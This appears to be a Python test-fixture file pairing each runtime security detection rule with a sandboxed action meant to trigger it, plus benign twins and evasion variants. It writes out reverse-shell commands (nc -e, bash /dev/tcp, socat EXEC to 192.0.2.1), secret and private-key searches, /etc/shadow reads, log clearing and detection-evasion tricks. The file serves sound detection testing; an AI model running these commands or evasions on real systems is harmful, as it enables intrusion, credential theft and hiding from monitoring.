"""For each official rule the action that fires it: real system calls by real processes in a throwaway root (sandbox.py).

docs/rules-tested.md is made from this table by tools/gen-rule-table.
"""

HOST, CONTAINER = "host", "container"


class Action:
    """code: what the process NAME runs. fields: what output_fields must have. does: for the page, where the code does not say it in
    a line. options: SANDBOX_*, late."""

    def __init__(self, rule, code, name="act", where=HOST, fields=None, does="", **options):
        self.rule, self.code, self.name, self.where = rule, code, name, where
        self.fields = fields or {}
        self.does = does
        self.options = options


# Addresses of the node's namespace: 198.51.100.2 plays the world (harness.Node(outside=True)).
CONNECT = "s = socket.socket(); s.settimeout(5); s.connect(('{}', {}))"
METADATA = "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('169.254.169.254', 80))"

ACTIONS = [
    # --- stable ----------------------------------------------------------------------------------------------------------
    Action("Directory traversal monitored file read", "opened('/etc/apt/../../etc/passwd', os.O_RDONLY)",
           fields={"fd.name": "/etc/passwd", "proc.name": "act"}),
    Action("Read sensitive file trusted after startup", "time.sleep(5.3); opened('/etc/shadow', os.O_RDONLY)", name="nginx",
           fields={"fd.name": "/etc/shadow", "proc.name": "nginx"}),
    Action("Read sensitive file untrusted", "opened('/etc/shadow', os.O_RDONLY)",
           fields={"fd.name": "/etc/shadow", "proc.name": "act", "evt.type": "openat"}),
    Action("Run shell untrusted", "spawn('sh', '-c', 'id', program='/bin/sh')", name="nginx",
           fields={"proc.name": "sh", "proc.pname": "nginx", "evt.type": "execve"}),
    Action("System user interactive", "spawn('login', 'x')", uid=1, fields={"proc.name": "login", "user.name": "daemon"}),
    Action("Terminal shell in container", "spawn('bash', '-i')", name="runc", where=CONTAINER, tty=True,
           fields={"proc.name": "bash", "proc.pname": "runc"}),
    Action("Contact K8S API Server From Container",
           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.2', 443))", where=CONTAINER, late=True,
           fields={"fd.rport": 443, "proc.name": "act"}),
    Action("Netcat Remote Code Execution in Container", "spawn('nc', '-e', '/bin/sh', '192.0.2.1')", where=CONTAINER,
           fields={"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 192.0.2.1"}),
    Action("Search Private Keys or Passwords", "spawn('grep', '-r', 'BEGIN RSA PRIVATE', '/')",
           fields={"proc.name": "grep", "proc.cmdline": "grep -r BEGIN RSA PRIVATE /"}),
    Action("Clear Log Activities", "make('/var/log/syslog'); opened('/var/log/syslog', os.O_WRONLY | os.O_TRUNC)",
           fields={"fd.name": "/var/log/syslog"}),
    Action("Remove Bulk Data from Disk", "spawn('shred', '-u', '/tmp/x')", fields={"proc.name": "shred"}),
    Action("Create Symlink Over Sensitive Files", "os.symlink('/etc/shadow', '/tmp/innocent')",
           fields={"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/innocent"}),
    Action("Create Hardlink Over Sensitive Files", "os.link('/etc/shadow', '/etc/innocent')",
           fields={"evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/etc/innocent"}),
    Action("Packet socket created in container", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)", where=CONTAINER,
           fields={"evt.type": "socket", "proc.name": "act"}),
    Action("Redirect STDOUT/STDIN to Network Connection in Container", CONNECT.format("198.51.100.2", 7000) +
           "; os.dup2(s.fileno(), 0)", where=CONTAINER, fields={"proc.name": "act", "fd.rport": 7000},
           does="connects to 198.51.100.2:7000 and makes the socket its standard input"),
    Action("Linux Kernel Module Injection Detected", "syscall(175, None, 0, b'')", where=CONTAINER,
           fields={"evt.type": "init_module"}, does="calls `init_module`"),
    Action("Detect release_agent File Container Escapes",
           "make('/tmp/release_agent'); opened('/tmp/release_agent', os.O_WRONLY)", where=CONTAINER,
           fields={"fd.name": "/tmp/release_agent"}),
    Action("PTRACE attached to process", """
child = os.fork()
if child == 0:
    time.sleep(1)
    os._exit(0)
LIBC.ptrace(16, child, 0, 0)  # PTRACE_ATTACH
os.waitpid(child, 0)
os.kill(child, signal.SIGKILL)
""", fields={"evt.type": "ptrace", "proc.name": "act"}, does="attaches to its child by `ptrace`"),
    Action("PTRACE anti-debug attempt", "LIBC.ptrace(0, 0, 0, 0)", fields={"evt.type": "ptrace", "proc.name": "act"},
           does="asks to be traced (`PTRACE_TRACEME`)"),
    Action("Find AWS Credentials", "spawn('grep', '-r', 'aws_secret_access_key', '/home')", fields={"proc.name": "grep"}),
    Action("Execution from /dev/shm", "spawn('x', folder='/dev/shm')",
           fields={"proc.name": "x", "proc.exepath": "/dev/shm/x"}),
    Action("Drop and execute new binary in container", "spawn('dropped')", where=CONTAINER,
           fields={"proc.name": "dropped", "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER"}),
    Action("Disallowed SSH Connection Non Standard Port", CONNECT.format("198.51.100.2", 443), name="ssh",
           fields={"proc.name": "ssh", "fd.rport": 443}),
    Action("Fileless execution via memfd_create", """
fd = os.memfd_create('payload')
os.write(fd, open(TRUE, 'rb').read())
child = os.fork()
if child == 0:
    os.execve(fd, ['payload'], {})
os.waitpid(child, 0)
""", fields={"evt.type": "execve"}, does="copies a program into a memfd and executes it from there"),
    # --- incubating ------------------------------------------------------------------------------------------------------
    Action("Modify Shell Configuration File", "opened('/root/.bashrc', os.O_WRONLY | os.O_CREAT)",
           fields={"fd.name": "/root/.bashrc"}),
    Action("Schedule Cron Jobs", "opened('/etc/cron.d/job', os.O_WRONLY | os.O_CREAT)", fields={"fd.name": "/etc/cron.d/job"}),
    Action("Read ssh information", "make('/root/.ssh/id_x'); opened('/root/.ssh/id_x', os.O_RDONLY)",
           fields={"fd.name": "/root/.ssh/id_x"}),
    Action("DB program spawned process", "spawn('ls')", name="mysqld", fields={"proc.name": "ls", "proc.pname": "mysqld"}),
    Action("Change thread namespace", "fd = os.open('/proc/self/ns/uts', os.O_RDONLY); LIBC.setns(fd, 0)",
           fields={"evt.type": "setns", "proc.name": "act"}, does="calls `setns` on `/proc/self/ns/uts`"),
    Action("Change namespace privileges via unshare", "LIBC.unshare(0x10000000)", where=CONTAINER, uid=65534,
           fields={"evt.type": "unshare", "proc.name": "act"}, does="calls `unshare(CLONE_NEWUSER)`"),
    Action("Launch Excessively Capable Container", "", where=CONTAINER, pidns=True, fields={"evt.type": "execve"},
           does="starts, as root with all capabilities"),
    Action("System procs network activity", CONNECT.format("198.51.100.2", 7000), name="bash",
           fields={"proc.name": "bash", "fd.rport": 7000}),
    Action("Program run with disallowed http proxy env", "spawn('curl', 'x', env={'HTTP_PROXY': 'http://127.0.0.1:1'})",
           fields={"proc.name": "curl"}),
    Action("Unexpected UDP Traffic",
           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.2', 6543))",
           fields={"proc.name": "act", "fd.l4proto": "udp", "fd.rport": 6543}),
    Action("Non sudo setuid", "LIBC.setuid(0)", uid=2, fields={"evt.type": "setuid", "user.name": "bin", "evt.arg.uid": "root"},
           does="calls `setuid(0)`"),
    Action("User mgmt binaries", "spawn('useradd', 'eve')", fields={"proc.name": "useradd"}),
    Action("Create files below dev", "opened('/dev/hidden', os.O_WRONLY | os.O_CREAT)", fields={"fd.name": "/dev/hidden"}),
    Action("Contact EC2 Instance Metadata Service From Container", METADATA, where=CONTAINER,
           fields={"proc.name": "act"}),
    Action("Contact cloud metadata service from container", METADATA, where=CONTAINER,
           fields={"proc.name": "act"}),
    Action("Launch Package Management Process in Container", "spawn('apk', 'add', 'x')", where=CONTAINER,
           fields={"proc.name": "apk"}),
    Action("Launch Suspicious Network Tool in Container", "spawn('nmap', '192.0.2.0/24')", where=CONTAINER,
           fields={"proc.name": "nmap"}),
    Action("Launch Suspicious Network Tool on Host", "spawn('nmap', '192.0.2.0/24')", fields={"proc.name": "nmap"}),
    Action("Delete or rename shell history", "make('/root/.bash_history'); os.unlink('/root/.bash_history')",
           fields={"evt.type": "unlink"}),
    Action("Set Setuid or Setgid bit", "make('/tmp/x'); os.chmod('/tmp/x', 0o4755)",
           fields={"evt.arg.filename": "/tmp/x"}),
    Action("Launch Remote File Copy Tools in Container", "spawn('scp', 'a', 'b')", where=CONTAINER,
           fields={"proc.name": "scp"}),
    Action("Launch Ingress Remote File Copy Tools in Container", "spawn('wget', 'x')", where=CONTAINER,
           fields={"proc.name": "wget"}),
    Action("Read environment variable from /proc files", "opened('/proc/self/environ', os.O_RDONLY)", where=CONTAINER,
           fields={"proc.name": "act"}),
    Action("Exfiltrating Artifacts via Kubernetes Control Plane", "make('/tmp/secret'); opened('/tmp/secret', os.O_RDONLY)",
           name="tar", where=CONTAINER, parent="runc", fields={"fd.name": "/tmp/secret", "proc.name": "tar"}),
    Action("Adding ssh keys to authorized_keys",
           "make('/root/.ssh/x'); opened('/root/.ssh/authorized_keys', os.O_WRONLY | os.O_CREAT)",
           fields={"fd.name": "/root/.ssh/authorized_keys"}),
    Action("Potential Local Privilege Escalation via Environment Variables Misuse",
           "spawn('victim', env={'GLIBC_TUNABLES': 'glibc.malloc.check=1'})", fields={"proc.name": "victim"}),
    Action("Backdoored library loaded into SSHD (CVE-2024-3094)",
           "make('/tmp/liblzma.so.5.6.1'); opened('/tmp/liblzma.so.5.6.1', os.O_RDONLY)", name="sshd",
           fields={"fd.name": "/tmp/liblzma.so.5.6.1"}),
    Action("BPF Program Not Profiled", "syscall(321, 5, None, 0)", fields={"evt.type": "bpf", "evt.arg.cmd": "BPF_PROG_LOAD"},
           does="calls `bpf(BPF_PROG_LOAD)`"),
    # --- sandbox ---------------------------------------------------------------------------------------------------------
    Action("Unexpected inbound connection source", """
s = socket.socket(); s.bind(('198.51.100.1', 7100)); s.listen()
c = socket.socket(); c.connect(('198.51.100.1', 7100)); s.accept()
""", fields={"proc.name": "act"}, does="accepts a connection from 198.51.100.1"),
    Action("Read Shell Configuration File", "make('/root/.profile'); opened('/root/.profile', os.O_RDONLY)",
           fields={"fd.name": "/root/.profile"}),
    Action("Update Package Repository", "opened('/etc/apt/sources.list', os.O_WRONLY | os.O_CREAT)",
           fields={"fd.name": "/etc/apt/sources.list"}),
    Action("Write below binary dir", "opened('/usr/bin/new', os.O_WRONLY | os.O_CREAT)", fields={"fd.name": "/usr/bin/new"}),
    Action("Write below monitored dir", "opened('/usr/local/bin/new', os.O_WRONLY | os.O_CREAT)",
           fields={"fd.name": "/usr/local/bin/new"}),
    Action("Write below etc", "opened('/etc/new', os.O_WRONLY | os.O_CREAT)", fields={"fd.name": "/etc/new"}),
    Action("Write below root", "opened('/root/new', os.O_WRONLY | os.O_CREAT)", fields={"fd.name": "/root/new"}),
    Action("Write below rpm database", "make('/var/lib/rpm/x'); opened('/var/lib/rpm/new', os.O_WRONLY | os.O_CREAT)",
           fields={"fd.name": "/var/lib/rpm/new"}),
    Action("Modify binary dirs", "make('/usr/bin/old'); os.rename('/usr/bin/old', '/usr/bin/other')",
           fields={"evt.type": "rename"}),
    Action("Mkdir binary dirs", "os.mkdir('/usr/bin/folder')", fields={"evt.type": "mkdir"}),
    Action("Interpreted procs inbound network activity", """
s = socket.socket(); s.bind(('198.51.100.1', 7101)); s.listen()
""", name="python3", fields={"proc.name": "python3", "evt.type": "listen"}),
    Action("Interpreted procs outbound network activity", CONNECT.format("198.51.100.2", 7000), name="perl",
           fields={"proc.name": "perl"}),
    Action("Unexpected K8s NodePort Connection",
           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.2', 30123))", where=CONTAINER,
           fields={"proc.name": "act"}),
    Action("Create Hidden Files or Directories", "opened('/tmp/.hidden', os.O_WRONLY | os.O_CREAT)",
           fields={"fd.name": "/tmp/.hidden"}),
    Action("Detect outbound connections to common miner pool ports",
           "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.2', 3333))",
           fields={"fd.rport": 3333}),
    Action("Detect crypto miners using the Stratum protocol", "spawn('tool', '-o', 'stratum+tcp://192.0.2.1:1')",
           fields={"proc.name": "tool"}),
    Action("Kubernetes Client Tool Launched in Container", "spawn('kubectl', 'get')", where=CONTAINER,
           fields={"proc.name": "kubectl"}),
    Action("Container Drift Detected (chmod)", "make('/tmp/x'); os.chmod('/tmp/x', 0o755)", where=CONTAINER,
           fields={"proc.name": "act"}),
    Action("Container Drift Detected (open+create)", "opened('/tmp/new', os.O_WRONLY | os.O_CREAT, 0o755)", where=CONTAINER,
           fields={"proc.name": "act"}),
    Action("Container Run as Root User", "", where=CONTAINER, pidns=True, fields={"evt.type": "execve"},
           does="starts, as root with all capabilities"),
    Action("Sudo Potential Privilege Escalation", "spawn('sudoedit', '-s', 'x\\\\')", fields={"proc.name": "sudoedit"}),
    Action("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "syscall(323, 1)", uid=2,
           fields={"evt.type": "userfaultfd", "user.uid": 2}, does="calls `userfaultfd`"),
    Action("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "spawn('pkexec')",
           fields={"proc.name": "pkexec"}),
    Action("Java Process Class File Download", """
s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()
c = socket.socket(); c.connect(s.getsockname()); p, _ = s.accept()
p.send(b'\\xca\\xfe\\xba\\xbe' + bytes(8)); c.recv(64)
""", name="java", fields={"evt.type": "recvfrom"}, does="receives the first bytes of a class file over TCP"),
    Action("Modify Container Entrypoint",
           "make('/tmp/x'); fd = os.open('/tmp/x', os.O_RDONLY); opened(f'/proc/self/fd/{fd}', os.O_WRONLY)",
           where=CONTAINER, fields={"proc.name": "act"}),
    Action("Decoding Payload in Container", "spawn('base64', '-d', 'x')", where=CONTAINER, fields={"proc.name": "base64"}),
    Action("Basic Interactive Reconnaissance", "spawn('whoami', process_group=0)", tty=True, fields={"proc.name": "whoami"}),
    Action("Netcat/Socat Remote Code Execution on Host", "spawn('socat', 'TCP:192.0.2.1:1', 'EXEC:sh')",
           fields={"proc.name": "socat"}),
    Action("Network Tool Executed During NPM Package Install", "spawn('telnet', '192.0.2.1')", name="npm", where=CONTAINER,
           fields={"proc.name": "telnet"}),
    Action("Known Cryptominer Process Executed", "spawn('xmrig')", fields={"proc.name": "xmrig"}),
    Action("Web Server Spawned Shell", "spawn('bash', '-c', 'id')", name="php", fields={"proc.name": "bash"}),
    Action("Web Server Spawned Suspicious Child Process", "spawn('wget', 'x')", name="apache2",
           fields={"proc.name": "wget"}),
    Action("Reverse Shell from Web Server", "spawn('bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/1')", name="nginx",
           fields={"proc.name": "bash"}),
    Action("Privileged Container Device Access", "make('/dev/sda'); opened('/dev/sda', os.O_RDONLY)", where=CONTAINER,
           fields={"fd.name": "/dev/sda"}),
    Action("Container Access to Host Sensitive Paths", "make('/host/etc/x'); opened('/host/etc/x', os.O_RDONLY)",
           where=CONTAINER, fields={"fd.name": "/host/etc/x"}),
]


class Container:
    """options: of `podman run`. does: what is executed in it. fields: what output_fields must have."""

    def __init__(self, options, does, fields):
        self.options, self.does, self.fields = options, does, fields


# Rules of containers whose runtime must say something about them: real podman containers (test_rules.py).
PODMAN = {
    "Debugfs Launched in Privileged Container": Container(["--privileged"], ", in it `/tmp/debugfs`", {"proc.name": "debugfs"}),
    "Mount Launched in Privileged Container": Container(["--privileged"], ", in it `/tmp/mount -t proc a /b`",
                                                        {"proc.name": "mount"}),
    "Launch Privileged Container": Container(["--privileged"], "", {
        "container.name": "box", "container.image.repository": "localhost/beeline-test", "container.image.tag": "1"}),
    "Launch Sensitive Mount Container": Container(["-v", "/etc:/mnt:ro"], "", {"container.name": "box"}),
}

# Rules that no action can fire as they are, and why.
UNREACHABLE = {
    "Network Connection outside Local Subnet": "its list namespace_scope_network_only_subnet is empty: it needs a user's own list",
    "Launch Disallowed Container": "its macro allowed_containers lets every container through: it needs a user's own macro",
}

# Benign twins: nothing of this rule may come of them.
QUIET = [
    Action("Read sensitive file untrusted", "opened('/etc/passwd', os.O_RDONLY)"),
    Action("Read sensitive file untrusted", "opened('/etc/shadow', os.O_RDONLY)", name="sshd"),
    Action("Write below etc", "opened('/etc/passwd', os.O_RDONLY)"),
    Action("Write below etc", "make('/tmp/etc/x'); opened('/tmp/etc/x', os.O_WRONLY)"),
    Action("Packet socket created in container", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
    Action("Terminal shell in container", "spawn('bash', '-i')", name="runc", where=CONTAINER),
    Action("Run shell untrusted", "spawn('sh', '-c', 'id', program='/bin/sh')", name="tool"),
    Action("Set Setuid or Setgid bit", "make('/tmp/x'); os.chmod('/tmp/x', 0o755)"),
    Action("Fileless execution via memfd_create", "spawn('plain')"),
    Action("Execution from /dev/shm", "spawn('plain')"),
    Action("Create Symlink Over Sensitive Files", "os.symlink('/etc/hostname', '/tmp/x')"),
    Action("Netcat Remote Code Execution in Container", "spawn('nc', '-l', '80')", where=CONTAINER),
    Action("Unexpected UDP Traffic", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.2', 53))"),
    Action("Clear Log Activities", "opened('/var/log/new', os.O_WRONLY | os.O_CREAT | os.O_APPEND)"),
]

# Ways to hide that are no hiding: the rule must fire all the same.
EVASIONS = [
    Action("Read sensitive file untrusted", "os.symlink('/etc/shadow', '/tmp/x'); opened('/tmp/x', os.O_RDONLY)"),
    Action("Read sensitive file untrusted", "os.symlink('/etc', '/tmp/e'); opened('/tmp/e/shadow', os.O_RDONLY)"),
    Action("Read sensitive file untrusted", "opened('/proc/self/root/etc/shadow', os.O_RDONLY)"),
    Action("Read sensitive file untrusted", "os.chdir('/etc/apt'); opened('../shadow', os.O_RDONLY)"),
    Action("Read sensitive file untrusted",
           "d = os.open('/etc', os.O_PATH); e = os.dup(d); os.close(os.open('shadow', os.O_RDONLY, dir_fd=e)); os.close(d)"),
    Action("Read sensitive file untrusted", "how = (ctypes.c_uint64 * 3)(0, 0, 0); syscall(437, -100, b'/etc/shadow', how, 24)"),
    Action("Read sensitive file untrusted", "LIBC.prctl(15, b'sshd', 0, 0, 0); opened('/etc/shadow', os.O_RDONLY)"),
    Action("Read sensitive file untrusted", """
import threading
thread = threading.Thread(target=lambda: opened('/etc/shadow', os.O_RDONLY)); thread.start(); thread.join()
"""),
    Action("Read sensitive file untrusted", """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.2)  # the one between is gone by now
        opened('/etc/shadow', os.O_RDONLY)
    os._exit(0)
os.wait(); time.sleep(0.5)
"""),
    Action("Known Cryptominer Process Executed", "spawn('xmrig', argv0='sshd')"),
    Action("Web Server Spawned Shell", """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.2)
        spawn('bash', '-c', 'id')
    os._exit(0)
os.wait(); time.sleep(0.6)
""", name="php"),
    Action("Write below etc", "opened('/etc/../etc/new', os.O_WRONLY | os.O_CREAT)"),
]
